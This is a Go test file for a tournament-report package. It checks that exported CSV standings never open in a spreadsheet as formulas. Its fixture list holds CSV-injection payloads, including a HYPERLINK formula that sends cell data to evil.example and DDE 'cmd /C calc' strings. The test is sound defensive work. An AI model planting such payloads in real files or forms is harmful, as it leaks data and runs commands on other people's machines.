package report

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"adiukh/tournament/catalog"
	"adiukh/tournament/csvfile"
)

// hostileText is what people may type as a name, a club or a city that a
// spreadsheet would run as a formula.
var hostileText = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Нажми")`,
	"+7 (900) 123-45-67",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"＝1+1",
}

// noFormulaCell fails when any cell of a table read with any separator a
// spreadsheet may use starts a formula.
func noFormulaCell(t *testing.T, data []byte) {
	t.Helper()
	for _, comma := range []rune{',', ';', '\t'} {
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = comma, true, -1
		records, err := r.ReadAll()
		if err != nil {
			t.Fatalf("read with %q: %v", comma, err)
		}
		for _, rec := range records {
			for _, cell := range rec {
				c := strings.TrimLeft(cell, ` "`)
				// A negative number is a number to a spreadsheet too.
				if _, err := strconv.ParseFloat(strings.Replace(c, ",", ".", 1), 64); err == nil {
					continue
				}
				if first, _ := utf8.DecodeRuneInString(c); c != "" && csvfile.StartsFormula(first) {
					t.Errorf("read with %q, a cell starts a formula: %q", comma, cell)
				}
			}
		}
	}
}

// TestCSVDialects checks both forms of every CSV: the plain one for
// programs and the one a Russian Excel opens; in both, no typed text
// reaches a spreadsheet as a formula.
func TestCSVDialects(t *testing.T) {
	t.Parallel()
	s := testStandings(len(hostileText), 3)
	s.Event.Name, s.Event.City = hostileText[0], hostileText[3]
	for i := range s.Rows {
		s.Rows[i].Player.Name = hostileText[i]
		s.Rows[i].Player.Club = hostileText[(i+1)%len(hostileText)]
		s.Rows[i].Player.City = hostileText[(i+2)%len(hostileText)]
		s.Rows[i].Player.FederationID = hostileText[(i+3)%len(hostileText)]
	}
	s.Rows[0].Player.Club = "semi;=1+2"
	s.Rows[0].Points = 2.5
	s.Rows[0].TieBreaks[0] = -1.5
	ts := TeamStandings{Event: s.Event, AfterRound: 3, Rows: []TeamStandingsRow{{Place: 1, Team: Team{StartNo: 1, Name: hostileText[0], Club: hostileText[1], City: hostileText[2]}, MatchPoints: 5, GamePoints: 6.5}}}
	files := map[string]func(*bytes.Buffer, CSVDialect) error{
		"standings": func(b *bytes.Buffer, d CSVDialect) error { return StandingsCSV(b, d, catalog.Russian, s) },
		"federation": func(b *bytes.Buffer, d CSVDialect) error {
			return FederationCSV(b, d, Federation{Events: []Standings{s}})
		},
		"team standings": func(b *bytes.Buffer, d CSVDialect) error { return TeamStandingsCSV(b, d, catalog.Russian, ts) },
	}
	for name, write := range files {
		for _, d := range CSVDialects {
			t.Run(name+" "+string(d), func(t *testing.T) {
				var buf bytes.Buffer
				if err := write(&buf, d); err != nil {
					t.Fatal(err)
				}
				data := buf.Bytes()
				r := csv.NewReader(bytes.NewReader(data))
				switch d {
				case ExcelCSV:
					if !bytes.HasPrefix(data, []byte("\ufeff")) || !bytes.Contains(data, []byte("\r\n")) {
						t.Errorf("the Excel file has no BOM or no CRLF: %.40q", data)
					}
					r = csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
					r.Comma = ';'
				case PlainCSV:
					if bytes.HasPrefix(data, []byte("\ufeff")) {
						t.Errorf("the plain file starts with a BOM")
					}
				}
				records, err := r.ReadAll()
				if err != nil {
					t.Fatalf("does not read back: %v\n%s", err, data)
				}
				noFormulaCell(t, data)
				// The file for programs names its columns by their IDs;
				// the one a person opens in Excel, in their language
				// (the federation's file is for programs in either).
				if want := map[CSVDialect]string{PlainCSV: "place", ExcelCSV: "Место"}[d]; name != "federation" && records[0][0] != want {
					t.Errorf("the header starts %q, want %q", records[0][0], want)
				}
				cells := strings.Join(records[1], "|")
				for _, rec := range records[1:] {
					for _, cell := range rec {
						// A negative number is a number to a spreadsheet too.
						_, err := strconv.ParseFloat(strings.Replace(cell, ",", ".", 1), 64)
						if err != nil && csvfile.Text(cell) != cell {
							t.Errorf("cell %q would run as a formula", cell)
						}
					}
				}
				if !strings.Contains(cells, "'"+hostileText[0]) {
					t.Errorf("the first row lacks the name as text: %s", cells)
				}
				decimal := map[CSVDialect]string{PlainCSV: "2.5", ExcelCSV: "2,5"}[d]
				if name == "team standings" {
					decimal = map[CSVDialect]string{PlainCSV: "6.5", ExcelCSV: "6,5"}[d]
				}
				if !strings.Contains("|"+cells+"|", "|"+decimal+"|") {
					t.Errorf("the first row lacks %s: %s", decimal, cells)
				}
			})
		}
	}
}
